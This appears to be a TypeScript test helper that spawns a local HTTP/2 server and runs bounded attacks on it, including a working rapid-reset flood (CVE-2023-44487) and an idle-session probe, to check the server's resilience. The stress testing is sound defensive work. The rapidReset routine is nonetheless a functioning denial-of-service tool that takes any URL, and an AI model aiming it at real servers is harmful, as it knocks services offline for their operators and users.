// HTTP/2 attacks made with the node:http2 client (rapid reset, a silent
// session, a ping) for tests/faults_http2.test.ts and `stress.ts --h2`, and
// the child-process server they hit (tests/_h2_server.ts). Attacks the
// node:http2 client will not make are in tests/_h2_frames.ts. Every attack
// is bounded in count and time.

import * as http2 from "node:http2";
import { type ChildProcess, spawn } from "node:child_process";
import process from "node:process";
import { createInterface, type Interface } from "node:readline";
import { fileURLToPath } from "node:url";
import type { ServeHttp2Options } from "../lib/runtime/serve_http2.ts";

const { NGHTTP2_CANCEL } = http2.constants;
export const MiB = 1024 * 1024;

/** What the server process reports about itself (bytes and counts). */
export interface ServerStats {
  rss: number;
  hwm: number;
  peak: number;
  fds: number;
  handlers: number;
  started: number;
  /** /stream bodies not yet ended (cancelled, or their signal aborted). */
  streaming: number;
  /** The most /stream bodies at once. */
  peakStreaming: number;
}

/** A serveHttp2 server in a child process of the same runtime. */
export interface ChildServer {
  readonly port: number;
  readonly url: string;
  readonly child: ChildProcess;
  /** Asks for its stats ("stats"), after a GC ("gc") or resetting the peak. */
  stats(command?: "stats" | "gc" | "reset"): Promise<ServerStats>;
  /** Resolves with the exit code (or signal) once the process has exited. */
  readonly exited: Promise<number | string | null>;
  /** Closes its stdin (it shuts down) and waits for the exit. */
  stop(): Promise<number | string | null>;
}

/** Starts tests/_h2_server.ts with `options` in its own process. */
export async function startChildServer(
  options: ServeHttp2Options = {},
): Promise<ChildServer> {
  const script = fileURLToPath(new URL("./_h2_server.ts", import.meta.url));
  const json = JSON.stringify(options);
  const args = "Bun" in globalThis ? [script, json] : [
    "run",
    // Reading /proc/self needs every permission under Deno.
    "--allow-all",
    "--v8-flags=--expose-gc",
    script,
    json,
  ];
  const child = spawn(process.execPath, args, {
    stdio: ["pipe", "pipe", "inherit"],
  });
  const exited = new Promise<number | string | null>((resolve) =>
    child.once("exit", (code, signal) => resolve(code ?? signal))
  );
  const lines: Interface = createInterface({ input: child.stdout! });
  const waiting: ((line: string) => void)[] = [];
  const queued: string[] = [];
  lines.on("line", (line) => {
    const next = waiting.shift();
    if (next) next(line);
    else queued.push(line);
  });
  const nextLine = () =>
    new Promise<string>((resolve, reject) => {
      const line = queued.shift();
      if (line !== undefined) return resolve(line);
      waiting.push(resolve);
      exited.then((code) =>
        reject(new Error(`Cannot read from the server: it exited (${code})`))
      );
    });
  const { port } = JSON.parse(await nextLine()) as { port: number };
  let chain = Promise.resolve() as Promise<unknown>;
  const stats = (command: "stats" | "gc" | "reset" = "stats") => {
    const result = chain.then(() => {
      child.stdin!.write(command + "\n");
      return nextLine();
    }).then((line) => JSON.parse(line) as ServerStats);
    chain = result.catch(() => {});
    return result;
  };
  return {
    port,
    url: `http://127.0.0.1:${port}`,
    child,
    stats,
    exited,
    stop: () => {
      child.stdin!.end();
      return exited;
    },
  };
}

/** Connects a node:http2 session and waits for the server's SETTINGS. */
export function connect(
  url: string,
  options: http2.ClientSessionOptions = {},
): Promise<http2.ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = http2.connect(url, options);
    session.once("error", reject);
    session.once("remoteSettings", () => {
      session.off("error", reject);
      session.on("error", () => {});
      resolve(session);
    });
  });
}

/** One GET on a fresh connection; resolves with status and body, or throws. */
export async function ping(url: string, timeoutMs = 5000): Promise<string> {
  const session = await connect(url);
  try {
    return await new Promise<string>((resolve, reject) => {
      const timer = setTimeout(
        () => reject(new Error(`Cannot ping: no answer in ${timeoutMs} ms`)),
        timeoutMs,
      );
      const stream = session.request({ ":path": "/ping" });
      let body = "";
      let status = 0;
      stream.on("response", (h) => status = Number(h[":status"]));
      stream.setEncoding("utf8");
      stream.on("data", (d: string) => body += d);
      stream.once("end", () => {
        clearTimeout(timer);
        resolve(`${status} ${body}`);
      });
      stream.once("error", (e) => {
        clearTimeout(timer);
        reject(e);
      });
      stream.end();
    });
  } finally {
    session.destroy();
  }
}

/** The outcome of an attack, as the client saw it. */
export interface AttackResult {
  /** Streams opened (request sent). */
  opened: number;
  /** Streams that ended with a response. */
  answered: number;
  /** Streams the server refused or reset (by RST_STREAM code). */
  resets: Record<string, number>;
  /** Sessions that got a GOAWAY, by error code. */
  goaways: Record<string, number>;
  /** Sessions the server closed (or that broke) before the client did. */
  closed: number;
  /** Wall time of the attack. */
  ms: number;
}

const count = (record: Record<string, number>, key: string | number) =>
  record[key] = (record[key] ?? 0) + 1;

/**
 * Rapid reset (CVE-2023-44487): on each of `connections` sessions, open
 * `streams` requests and cancel each at once (HEADERS then RST_STREAM).
 * Streams are sent in batches of `batch` per tick so the client itself stays
 * within its memory; a session the server closes stops its loop, one it
 * leaves open is closed by the client `settleMs` after the last reset.
 */
export async function rapidReset(
  url: string,
  connections: number,
  streams: number,
  path = "/hold",
  batch = 100,
  settleMs = 3000,
): Promise<AttackResult> {
  const started = performance.now();
  const result: AttackResult = {
    opened: 0,
    answered: 0,
    resets: {},
    goaways: {},
    closed: 0,
    ms: 0,
  };
  await Promise.all(
    Array.from({ length: connections }, async () => {
      let session: http2.ClientHttp2Session;
      let closing = false;
      try {
        session = await connect(url, {
          // The client must not queue streams itself.
          peerMaxConcurrentStreams: 1 << 30,
        });
      } catch {
        result.closed++;
        return;
      }
      let gone = false;
      session.once("goaway", (code) => count(result.goaways, code));
      session.once("close", () => {
        gone = true;
        if (!closing) result.closed++;
      });
      for (let i = 0; i < streams && !gone && !session.destroyed;) {
        const opened: http2.ClientHttp2Stream[] = [];
        for (let k = 0; k < batch && i < streams; k++, i++) {
          try {
            const stream = session.request({ ":path": path }, {
              endStream: true,
            });
            stream.on("error", () => {});
            opened.push(stream);
            result.opened++;
          } catch {
            gone = true;
            break;
          }
        }
        // Deno's node:http2 client drops the RST_STREAM of a stream closed
        // before it has its id: wait for the ids, then reset the batch.
        await Promise.all(
          opened.map((stream) =>
            stream.pending
              ? new Promise((resolve) => {
                stream.once("ready", resolve);
                stream.once("close", resolve);
              })
              : undefined
          ),
        );
        for (const stream of opened) stream.close(NGHTTP2_CANCEL);
        await new Promise((resolve) => setImmediate(resolve));
      }
      // Give the server `settleMs` to deal with what it was sent: a server
      // that counts resets closes the session in that time.
      if (!gone) {
        let timer: ReturnType<typeof setTimeout> | undefined;
        await Promise.race([
          new Promise((resolve) => session.once("close", resolve)),
          new Promise((resolve) => timer = setTimeout(resolve, settleMs)),
        ]);
        clearTimeout(timer);
      }
      closing = true;
      session.destroy();
    }),
  );
  result.ms = performance.now() - started;
  return result;
}

/**
 * Opens a session (the client preface and SETTINGS only) and sends nothing
 * more; resolves with how long the server took to close it, or -1 if it
 * was still open after `timeoutMs`.
 */
export async function silentSession(
  url: string,
  timeoutMs: number,
): Promise<number> {
  const started = performance.now();
  const session = await connect(url);
  const closed = new Promise<number>((resolve) =>
    session.once("close", () => resolve(performance.now() - started))
  );
  let timer: ReturnType<typeof setTimeout> | undefined;
  const result = await Promise.race([
    closed,
    new Promise<number>((resolve) =>
      timer = setTimeout(() => resolve(-1), timeoutMs)
    ),
  ]);
  clearTimeout(timer);
  session.destroy();
  return result;
}
